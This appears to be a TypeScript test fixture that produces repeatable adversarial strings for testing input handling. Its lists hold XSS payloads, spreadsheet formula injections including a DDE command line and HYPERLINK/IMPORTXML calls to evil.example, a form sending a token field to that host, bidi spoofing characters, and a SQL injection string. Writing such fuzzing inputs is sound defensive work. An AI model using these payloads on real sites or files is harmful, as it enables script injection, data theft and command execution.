import { seeded } from './random.ts';

/** What people send who want something to run, to be taken for something else, or to break. */
const markup = [
  '<script>window.hit=1</script>',
  '<img src=x onerror="window.hit=1">',
  '<svg/onload=window.hit=1>',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '"><a href="javascript:window.hit=1" autofocus onfocus=window.hit=1>x</a>',
  '</textarea></title></style><base href="https://evil.example/">',
  '<link rel=stylesheet href=//evil.example/a.css><style>*{display:none}</style>',
  '<form action=https://evil.example><input name=token></form>',
  '<math><mtext></table><mglyph><style><!--</style><img title="--><img src=1 onerror=window.hit=1>">',
  '{{constructor.constructor("window.hit=1")()}} #{window.hit=1} <%= 1 %>',
  '[x](javascript:window.hit=1) ![x](https://evil.example/pixel.png) javascript:window.hit=1',
  '<!--<script>window.hit=1//--> ]]> <![CDATA[<script>window.hit=1</script>]]>',
  '<x contenteditable onblur=window.hit=1 style="position:fixed;inset:0;background:url(//evil.example/)">',
];
const formulas = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '＝HYPERLINK("https://evil.example","x")',
  '=IMPORTXML("https://evil.example","//a")',
  '"=1+1","second"',
  'a\n=1+1',
];
const bidi = [
  '\u202emoc.live@ada',
  '\u2066\u2067\u202d',
  'ada\u200b\u200d@example.com',
  'שלום <b>',
  '\u061c\u200f',
  '\ufeff',
];
const breaking = [
  "'); drop table ticket; --",
  '\\u003cscript\\u003e',
  '%3Cscript%3E',
  '&lt;script&gt;',
  '\u0000\u0001\u001b[2J',
  '\ud83d\ude00'.repeat(40),
  'e\u0301'.repeat(60),
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢',
  'x'.repeat(3_000),
  'ﷺ'.repeat(50),
  '\u2028\u2029',
  'null',
  'undefined',
  '__proto__',
  '{"kind":"created"}',
];
const all = [...markup, ...formulas, ...bidi, ...breaking];

/** `count` strings, the same each time: each of these alone, then two or three of them together. */
export function hostileStrings(count: number): string[] {
  const random = seeded(7);
  const pick = () => all[Math.floor(random() * all.length)] ?? '';
  const glue = () => ['', ' ', '\n', '"', '>'][Math.floor(random() * 5)] ?? '';
  return Array.from({ length: count }, (_, place) => {
    const first = all[place] ?? pick() + glue() + pick() + (random() < 0.3 ? glue() + pick() : '');
    return first;
  });
}
